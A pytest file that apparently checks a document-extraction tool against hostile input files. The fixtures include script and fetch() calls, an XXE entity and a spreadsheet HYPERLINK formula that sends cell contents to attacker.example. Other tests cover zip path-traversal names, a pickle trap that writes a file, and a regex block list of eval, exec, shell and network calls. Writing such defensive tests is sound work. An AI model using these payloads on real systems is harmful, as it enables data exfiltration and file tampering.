"""Hostile files: nothing is run, fetched, or written where it should not be."""

from __future__ import annotations

import io
import pickle
import re
import shutil
import socket
import threading
import zipfile
from collections.abc import Iterator
from contextlib import suppress
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path

import pytest
from typer.testing import CliRunner

import policyfacts
from fuzz import seeds
from policyfacts.cli import app
from policyfacts.document import DocumentError, UsageError

SOURCES = Path(policyfacts.__file__).parent
FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"出口")'
FACT = "2024年宁波市出口5亿元，同比增长5%。"
REMOTE = "http://attacker.example/x"
DTD = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "{REMOTE}">]>'
HTML = (
    f'<html><head><base href="{REMOTE}"><link rel="stylesheet" href="{REMOTE}"><script src="{REMOTE}"></script>'
    f'</head><body onload="fetch(\'{REMOTE}\')"><p>{FACT}</p><img src="{REMOTE}"><iframe src="{REMOTE}"></iframe>'
    f"<script>var t = '2023年宁波市进口99亿元';</script></body></html>"
)


@pytest.fixture
def _no_network(monkeypatch: pytest.MonkeyPatch) -> None:
    def refuse(*_: object, **__: object) -> None:
        raise AssertionError("the network was used")

    for name in ("socket", "create_connection", "getaddrinfo", "gethostbyname"):
        monkeypatch.setattr(socket, name, refuse)


def docx(picture: str = "", head: str = "") -> bytes:
    """A Word file; ``picture`` is the address of one that it links to, ``head`` stands before its XML."""
    relation = (
        f'<Relationships xmlns="{seeds.RELATIONS}"><Relationship Id="p" Type="{seeds.OFFICE_RELATION}/image" '
        f'Target="{picture}" TargetMode="External"/></Relationships>'
    )
    drawing = (
        "<w:p><w:r><w:drawing><wp:inline "
        'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing">'
        '<a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData>'
        f'<a:blip xmlns:r="{seeds.OFFICE_RELATION}" r:link="p"/></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>'
    )
    body = f"<w:document {seeds.W}><w:body><w:p><w:r><w:t>{FACT}</w:t></w:r></w:p>{drawing}</w:body></w:document>"
    members: dict[str, str | bytes] = dict(seeds.DOCX) | {"word/document.xml": head + body}
    return seeds.packed(members | ({"word/_rels/document.xml.rels": relation} if picture else {}))


def mail() -> bytes:
    return f"MIME-Version: 1.0\nContent-Type: text/html; charset=utf-8\n\n{HTML}".encode()


@pytest.mark.usefixtures("_no_network")
@pytest.mark.parametrize(
    ("name", "data"), [("a.html", HTML.encode()), ("a.eml", mail()), ("a.docx", docx(REMOTE)), ("a.mht", mail())]
)
def test_what_is_linked_is_not_fetched_and_scripts_are_not_read(tmp_path: Path, name: str, data: bytes) -> None:
    (tmp_path / name).write_bytes(data)
    facts = policyfacts.extract_folder(tmp_path)
    assert [fact.figure for fact in facts] == ["5"]


@pytest.mark.usefixtures("_no_network")
@pytest.mark.parametrize("format", ["docx", "xlsx", "pptx", "ofd", "ods"])
def test_entities_are_refused_in_every_part(tmp_path: Path, format: str) -> None:
    whole = seeds.unpacked(seeds.container(format))
    for part in [name for name in whole if name.endswith((".xml", ".rels")) and b"<" in whole[name]]:
        text = whole[part].decode("utf-8").removeprefix("\ufeff")
        hostile = DTD + re.sub(r"^<\?xml[^>]*\?>", "", text).replace("</", "&a;</", 1)
        path = tmp_path / f"a.{format}"
        path.write_bytes(seeds.packed(whole | {part: hostile.encode()}))
        try:
            documents = policyfacts.read_all(path)
        except DocumentError:
            continue
        assert all(REMOTE not in document.text for document in documents)


class _Server(BaseHTTPRequestHandler):
    asked: list[str] = []

    def do_GET(self) -> None:
        self.asked.append(self.path)
        self.send_error(404)

    do_HEAD = do_OPTIONS = do_PROPFIND = do_GET

    def log_message(self, *_: object) -> None:
        pass


@pytest.fixture
def server() -> Iterator[str]:
    _Server.asked.clear()
    with HTTPServer(("127.0.0.1", 0), _Server) as running:
        threading.Thread(target=running.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{running.server_port}/x.png"
        running.shutdown()


@pytest.mark.slow
@pytest.mark.skipif(not (shutil.which("soffice") or shutil.which("libreoffice")), reason="needs LibreOffice")
def test_libreoffice_fetches_nothing(tmp_path: Path, server: str) -> None:
    names = {"office": "office", "text": "text", "draw": "drawing", "xlink": "http://www.w3.org/1999/xlink"}
    spaces = " ".join(
        f'xmlns:{short}="{name if "/" in name else f"urn:oasis:names:tc:opendocument:xmlns:{name}:1.0"}"'
        for short, name in names.items()
    )
    link = f'xlink:href="{server}" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"'
    body = (
        f"<office:document-content {spaces}><office:body><office:text><text:p>{FACT}<draw:frame>"
        f"<draw:image {link}/></draw:frame></text:p><text:section text:name='s'><text:section-source {link}/>"
        "</text:section></office:text></office:body></office:document-content>"
    )
    manifest = (
        '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry '
        'manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.text"/><manifest:file-entry '
        'manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>'
    )
    kind = "application/vnd.oasis.opendocument.text"
    members: dict[str, str | bytes] = {"mimetype": kind, "META-INF/manifest.xml": manifest, "content.xml": body}
    (tmp_path / "a.odt").write_bytes(seeds.packed(members))
    facts = policyfacts.extract_folder(tmp_path)
    assert [fact.figure for fact in facts] == ["5"] and not _Server.asked


def test_no_formula_reaches_a_spreadsheet(tmp_path: Path) -> None:
    import openpyxl

    (tmp_path / f"{FORMULA[:9]}.csv").write_text(
        f"指标,2023年（亿元）\n{FORMULA},5\n+1+1,6\n@SUM(A1),7\n", encoding="utf-8"
    )
    (tmp_path / "a.txt").write_text(f"{FACT}\n=1+1出口5亿元。", encoding="utf-8")
    facts = policyfacts.extract_folder(tmp_path)
    assert any(fact.indicator.startswith("=") or fact.doc.startswith("=") for fact in facts)
    facts.write(tmp_path / "facts.xlsx")
    with zipfile.ZipFile(tmp_path / "facts.xlsx") as archive:
        sheets = [archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/sheet")]
    assert sheets and not any(b"<f>" in sheet or b"<f " in sheet for sheet in sheets)
    book = openpyxl.load_workbook(tmp_path / "facts.xlsx")
    links = [cell.hyperlink for sheet in book for row in sheet.iter_rows() for cell in row if cell.hyperlink]
    assert not any("attacker" in (link.target or "") for link in links)


def test_names_in_archives_lead_nowhere(tmp_path: Path) -> None:
    inside = tmp_path / "in" / "out"
    inside.mkdir(parents=True)
    names = [
        "../../up.txt",
        "/abs.txt",
        "C:\\\\x\\..\\win.txt",
        "a/../../../deep.txt",
        "..\\..\\back.txt",
    ]
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        for name in names:
            archive.writestr(name, FACT)
    (inside / "a.zip").write_bytes(target.getvalue())
    told = CliRunner().invoke(app, ["extract", str(inside), "-o", str(inside / "facts.xlsx")])
    assert told.exit_code == 0
    facts = policyfacts.extract_folder(inside, include=["*.zip"])
    assert len(facts.documents) == len(names)
    assert not any(".." in doc.split("/") or doc.startswith("/") for doc in {fact.doc for fact in facts})
    written = {path.relative_to(tmp_path).as_posix() for path in tmp_path.rglob("*")}
    assert written == {"in", "in/out", "in/out/a.zip", "in/out/facts.xlsx"}


class _Trap:
    """Makes a file when it is unpickled."""

    def __init__(self, path: Path) -> None:
        self.path = path

    def __reduce__(self) -> tuple[object, tuple[str, str]]:
        return open, (str(self.path), "w")


@pytest.mark.parametrize("suffix", [".csv", ".jsonl", ".xlsx", ".parquet", ".sqlite", ".txt", ".xls"])
def test_nothing_is_unpickled(tmp_path: Path, suffix: str) -> None:
    path = tmp_path / f"a{suffix}"
    path.write_bytes(pickle.dumps(_Trap(tmp_path / "sprung")))
    with suppress(UsageError):
        policyfacts.read_facts(path)
    policyfacts.extract_folder(path) if suffix in (".csv", ".xlsx", ".txt", ".xls") else None
    assert not (tmp_path / "sprung").exists()


def test_the_program_has_no_way_to_run_what_it_reads() -> None:
    """No pickle, eval, shell or network in the program; what its processes send one another is their own."""
    banned = re.compile(
        r"\b(?:pickle\.load|read_pickle|marshal|shelve|eval\(|exec\(|shell=True|os\.system|urllib\.request|http\.client)"
    )
    found = [path.name for path in SOURCES.rglob("*.py") if banned.search(path.read_text(encoding="utf-8"))]
    assert not found
